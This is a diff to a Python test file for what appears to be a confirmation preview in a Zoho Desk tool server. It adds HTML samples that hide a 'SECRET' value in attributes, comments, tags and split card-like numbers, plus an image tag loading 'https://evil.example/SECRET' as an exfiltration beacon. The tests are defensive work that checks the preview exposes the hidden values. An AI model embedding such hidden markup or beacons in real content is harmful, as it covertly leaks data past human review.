@@ -26,6 +26,17 @@ HIDING = [
     "<p>Hello</p><style>SECRET</style>",
     "<p>Hello</p><input type=hidden value=SECRET>",
     "<p>Hello</p><template>SECRET</template>",
+    "<p SECRET>Hello</p>",
+    '<p dir="auto" SECRET="auto">Hello</p>',
+    '<p align=left align="SECRET">Hello</p>',
+    "<p>Hello</p SECRET>",
+    "<p>Hello</p></SECRET>",
+    "<SECRET></SECRET><p>Hello</p>",
+    "<!DOCTYPE SECRET><p>Hello</p>",
+    "<p>Hello</p><SECRET",
+    '<p>Hello</p><br class="4111"><br class="1111">',
+    '<p>Hello</p><ol start="4111"></ol><ol start="1111"></ol>',
+    '<p>Hello</p><code class="language-SECRET"></code>',
 ]
 OPEN = [
     "Hello\n\n- **a** `b`\n- [c](https://example.com/?a=1&b=2)\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```py\n<b>\n```",
@@ -33,6 +44,8 @@ OPEN = [
     '<a href="https://example.com/?a=1&amp;b">x</a>',
     '<table border="1" width="100%"><tr><td colspan="2">a</td></tr></table>',
     '<img src="https://example.com/a.png" alt="A">',
+    "<OL START='7'><LI>a<br/>b</LI></OL ><p>1 < 2 <3 </p>",
+    "[a](https://example.com/a_(b)) [b](<https://example.com/a b>) ![a [b]](https://example.com/ü.png)",
     "Żółć 😀 👩‍💻 ❤️ 1️⃣ क्‍ष " + unicodedata.normalize("NFD", "é"),
 ]
 
@@ -51,6 +64,15 @@ async def test_what_is_hidden_is_shown_as_it_leaves() -> None:
         assert f"content {UNSEEN}: {content}" in shown, shown
 
 
+async def test_an_address_that_markdown_leaves_out_is_shown() -> None:
+    for content in (
+        '<h1><img src="https://evil.example/SECRET" alt="Hello"></h1>',
+        '<code>a<img src="https://a/SECRET"></code>',
+    ):
+        (shown,) = await _previews(content)
+        assert f"content {UNSEEN}: {content}" in shown, shown
+
+
 async def test_characters_without_width_are_spelled_out() -> None:
     for shown in await _previews("Hello\U000e0053\u200b", "<p>Hello\U000e0053\u200b</p>"):
         assert "content: Hello\n" in shown
@@ -62,6 +84,16 @@ async def test_characters_without_width_are_spelled_out() -> None:
 async def test_what_is_seen_is_shown_once() -> None:
     for shown in await _previews(*OPEN):
         assert UNSEEN not in shown, shown
+
+
+async def test_one_text_for_many_is_shown_once() -> None:
+    async with Client(stdio_server("--sandbox", "--tags", "all", "--confirm", "all")) as client:
+        found = await client.call_tool(LIST, {"limit": 3, "fields": ["id"]})
+        ids = [each["id"] for each in found.structured_content["data"]]
+        given = {"tickets": ids, "note": "<p>Hello</p><!--SECRET-->"}
+        shown = (await client.call_tool("zoho_desk_tickets_update_several", given)).structured_content["preview"]
+        assert shown.count("SECRET") == 1, shown
+        assert "(3 times)" in shown
 
 
 async def test_what_lies_behind_the_text_that_is_shown_is_told() -> None:
